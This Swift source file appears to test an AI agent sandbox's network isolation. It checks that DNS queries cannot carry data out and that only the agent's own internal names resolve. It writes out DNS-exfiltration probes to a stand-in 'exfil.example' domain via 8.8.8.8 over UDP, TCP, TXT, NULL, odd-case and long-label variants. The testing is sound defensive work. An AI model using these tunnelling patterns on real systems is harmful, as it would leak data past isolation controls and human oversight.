import Foundation
import NetworkIsolation

/// NET-5: the resolver of the platform is the only one, and knows nothing but what the agent may reach.
struct NameChecks: Sendable {
  let fixtures: Fixtures

  var all: [Check] {
    [
      Check(
        "NET-5", layer: "network", title: "DNS knows only the agent's names, and nothing that is asked leaves",
        deadline: .seconds(60), body: names)
    ]
  }

  /// A server of somebody's on the Internet.
  private static let server = "8.8.8.8"

  private func names() async throws -> Finding {
    let stage = try await fixtures.stage.value
    let words = ["x\(randomDigits())", "y\(randomDigits())"]
    let ears = try Eavesdropper.start(for: words, on: try interfaces(stage))
    defer { ears.stop() }
    let free = try queries(words[0])
    let bound = try queries(words[1])
    async let bare = stage.withoutControl.target.dial(free.map(\.1))
    async let real = stage.withControl.target.dial(bound.map(\.1))
    let (_, answers) = try await (bare, real)
    try await Task.sleep(for: .milliseconds(300))
    var trials = free.indices.map { place in
      Trial(
        free[place].0, withoutControl: sent(ears, 0, free[place].1, stage.withoutControl, stage.world),
        withControl: judged(answers[place], bound[place].1, ears, stage))
    }
    let others = [853, 5353].compactMap { port in
      IPAddress(Self.server).map { NetworkAttack.datagram(to: $0, port: port) }
    }
    trials += try await NetworkAttack.trials(others, on: stage)
    let finding = Finding(trials)
    guard finding.verdict == .proven else { return finding }
    return try await withNames(finding, stage)
  }

  private func randomDigits() -> String { String(UInt64.random(in: .min ... .max), radix: 36) }

  /// Every interface but those of the sandboxes themselves: there the queries are seen in any case.
  private func interfaces(_ stage: NetworkStage) throws -> [String] {
    let own = [stage.withControl, stage.withoutControl].map(\.target.network.interface)
    return try FileManager.default.contentsOfDirectory(atPath: "/sys/class/net").filter { !own.contains($0) }
  }

  /// Ways to carry a word out.
  private func queries(_ word: String) throws -> [(String, Dial)] {
    func udp(_ name: String, _ type: UInt16 = 1) -> Dial {
      Dial(address: Self.server, port: 53, bytes: NameQuery(name: name, type: type).bytes, isDatagram: true)
    }
    let odd = String("\(word).ExFiL".enumerated().map { $0 % 2 == 0 ? Character($1.uppercased()) : $1 })
    return [
      ("a query over UDP", udp("\(word).exfil.example")),
      (
        "a query over TCP",
        Dial(address: Self.server, port: 53, bytes: NameQuery(name: "\(word).exfil.example").framed)
      ),
      ("a query for TXT", udp("\(word).exfil.example", 16)), ("a query for NULL", udp("\(word).exfil.example", 10)),
      ("a query in odd case", udp("\(odd).example")),
      (
        "a query with long labels",
        udp("\(word)\(String(repeating: "a", count: 40)).\(String(repeating: "b", count: 60)).example")
      ),
      ("a query for a name that begins like an open one", udp("api.lobstack.internal.\(word).example")),
    ]
  }

  /// Whether the query left the machine's side of the sandbox.
  private func sent(
    _ ears: Eavesdropper, _ place: Int, _ dial: Dial, _ side: NetworkSide, _ world: WitnessWorld
  ) -> AttackOutcome {
    let number: UInt8 = dial.isDatagram ? 17 : 6
    let arrived = world.arrivals.count {
      $0.source == side.target.network.address && $0.port == 53 && $0.protocolNumber == number
    }
    guard arrived > 0, ears.heard(place) else { return .prevented("nothing left") }
    return .succeeded("the word in it went to \(Self.server) (\(arrived) packets)")
  }

  private func judged(
    _ answer: Dial.Answer, _ dial: Dial, _ ears: Eavesdropper, _ stage: NetworkStage
  ) -> AttackOutcome {
    let left = sent(ears, 1, dial, stage.withControl, stage.world)
    if case .succeeded = left { return left }
    if ears.heard(1) { return .succeeded("the word went by on another interface of the machine") }
    // TCP has a length before each message.
    let length = dial.isDatagram ? 0 : 2
    guard let reply = NameAnswer(Array(answer.bytes.dropFirst(length)), to: Array(dial.bytes.dropFirst(length))) else {
      return .unknown("nobody answered (\(answer.bytes.count) bytes came)")
    }
    guard reply.records == 0, reply.code != 0 else {
      return .succeeded("it was answered with \(reply.records) records")
    }
    return .prevented("the platform's own resolver answered it with code \(reply.code); nothing left")
  }

  /// Beside all that is refused: what the agent may reach has the platform's address, for that agent alone.
  private func withNames(_ finding: Finding, _ stage: NetworkStage) async throws -> Finding {
    let names = try await fixtures.names.value
    func udp(_ name: String, _ type: UInt16 = 1) -> Dial {
      Dial(address: Self.server, port: 53, bytes: NameQuery(name: name, type: type).bytes, isDatagram: true)
    }
    let own = IPAddress(AddressPlan(layout: fixtures.site.platform).serviceAddress)
    let open = ["api.lobstack.internal", "x.\(names.domain)", "\(names.keyedHost).lobstack.internal"]
    func ask(_ target: Target, _ queries: [Dial]) async throws -> [NameAnswer?] {
      zip(try await target.dial(queries), queries).map { NameAnswer($0.bytes, to: $1.bytes) }
    }
    let answers = try await ask(stage.withControl.target, open.map { udp($0) } + [udp(open[0], 28)])
    let strangers = try await ask(try await fixtures.second.value, open.dropFirst().map { udp($0) })
    guard answers.prefix(3).allSatisfy({ $0?.code == 0 && $0?.address == own }), let six = answers[3], six.code == 0,
      six.records == 0
    else { return Finding(.failed, evidence: ["the agent's own names do not lead to the platform: \(answers)"]) }
    guard strangers.allSatisfy({ $0?.code == 3 }) else {
      return Finding(.failed, prevented: false, evidence: ["another agent resolves them as well: \(strangers)"])
    }
    var finding = finding
    finding.evidence.append(
      "the agent's \(open.count) names lead to \(own?.description ?? "?"), have no IPv6 address, and do not exist for "
        + "another agent")
    return finding
  }
}
